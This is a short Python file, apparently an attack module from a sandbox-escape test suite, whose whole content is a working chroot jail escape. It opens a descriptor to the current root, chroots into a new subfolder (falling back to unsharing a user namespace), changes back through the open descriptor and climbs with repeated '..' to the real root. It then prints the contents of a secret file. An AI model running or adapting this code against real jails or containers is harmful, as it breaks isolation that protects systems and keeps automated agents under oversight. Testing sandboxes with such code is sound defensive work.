"""Escapes from a root folder by a second `chroot` below it, while a folder of the first root is still open."""

import ctypes
import os


def attack(facts: dict[str, str]) -> None:
    os.mkdir("second")
    first = os.open("/", os.O_RDONLY)
    try:
        os.chroot("second")
    except OSError:
        ctypes.CDLL(None).unshare(0x10000000)
        os.chroot("second")
    os.fchdir(first)
    for _ in range(40):
        os.chdir("..")
    os.chroot(".")
    print(open(facts["secret_file"]).read())
